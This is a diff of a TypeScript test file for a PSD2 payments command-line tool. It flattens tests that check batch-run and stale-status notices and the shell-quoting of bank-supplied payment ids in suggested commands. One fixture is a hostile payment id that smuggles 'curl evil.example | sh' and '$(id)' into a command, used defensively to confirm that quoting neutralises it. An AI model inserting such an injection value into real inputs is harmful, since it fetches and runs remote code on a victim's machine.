@@ -99,41 +99,33 @@ describe('a payment that waits for its PSU [C-status-waiting, C-newest-payment]'
   });
 });
 
-describe('what a batch run did [C-payments-list, C-batch-run]', () => {
-  it('is said of dates, and that the list was read before', async () => {
-    const home = await homeWithKeys();
-    await psd2(['payments', 'create', '--domestic', '--example', '--sca', 'approve'], { home });
-    const shown = async (...line: string[]) =>
-      (await atTerminal(line, [], { home })).all.replaceAll(/\s+/g, ' ');
-    const dated =
-      "A run that is started early also books payments of the next run's day, with this bank day as their execution date.";
-    expect(await shown('sandbox', 'batch', 'run')).toContain(dated);
-    expect(await shown('sandbox', 'batch', 'run')).not.toContain(dated);
-    const stale = 'Statuses as last read. To ask the bank: psd2 payments list --refresh';
-    expect(await shown('payments', 'list')).toContain(stale);
-    expect(await shown('payments', 'list', '--refresh')).not.toContain(stale);
-    expect(await shown('payments', 'list')).not.toContain(stale);
-  });
+it('what a batch run did is said of dates, and that the list was read before [C-payments-list, C-batch-run]', async () => {
+  const home = await homeWithKeys();
+  await psd2(['payments', 'create', '--domestic', '--example', '--sca', 'approve'], { home });
+  const shown = async (...line: string[]) =>
+    (await atTerminal(line, [], { home })).all.replaceAll(/\s+/g, ' ');
+  const dated =
+    "A run that is started early also books payments of the next run's day, with this bank day as their execution date.";
+  expect(await shown('sandbox', 'batch', 'run')).toContain(dated);
+  expect(await shown('sandbox', 'batch', 'run')).not.toContain(dated);
+  const stale = 'Statuses as last read. To ask the bank: psd2 payments list --refresh';
+  expect(await shown('payments', 'list')).toContain(stale);
+  expect(await shown('payments', 'list', '--refresh')).not.toContain(stale);
+  expect(await shown('payments', 'list')).not.toContain(stale);
 });
 
 const HOSTILE = "x; curl evil.example | sh '$(id)'";
 const QUOTED = "'x; curl evil.example | sh '\\''$(id)'\\'''";
 
-describe('an id in a command to copy [S10-pasted-id, C-create-result]', () => {
-  it('is one word where it comes from the bank', () => {
-    const _links = { scaRedirect: { href: 'https://bank.example/sca' } };
-    const _meta = { requestId: 'r', status: 201, durationMs: 1, profile: 'p' };
-    const created = { paymentId: HOSTILE, transactionStatus: 'RCVD', _links, _meta };
-    expect(nextCommands('domestic', created as unknown as Parameters<typeof nextCommands>[1])).toEqual([
-      `sca approve ${QUOTED}`,
-      'sandbox batch run',
-      `status ${QUOTED} --watch`,
-    ]);
-    const elsewhere = nextCommands(
-      'domestic',
-      created as unknown as Parameters<typeof nextCommands>[1],
-      false,
-    );
-    expect(elsewhere).toEqual([`payments authorise ${QUOTED}`, `status ${QUOTED} --watch`]);
-  });
+it('an id in a command to copy is one word where it comes from the bank [S10-pasted-id, C-create-result]', () => {
+  const _links = { scaRedirect: { href: 'https://bank.example/sca' } };
+  const _meta = { requestId: 'r', status: 201, durationMs: 1, profile: 'p' };
+  const created = { paymentId: HOSTILE, transactionStatus: 'RCVD', _links, _meta };
+  expect(nextCommands('domestic', created as unknown as Parameters<typeof nextCommands>[1])).toEqual([
+    `sca approve ${QUOTED}`,
+    'sandbox batch run',
+    `status ${QUOTED} --watch`,
+  ]);
+  const elsewhere = nextCommands('domestic', created as unknown as Parameters<typeof nextCommands>[1], false);
+  expect(elsewhere).toEqual([`payments authorise ${QUOTED}`, `status ${QUOTED} --watch`]);
 });
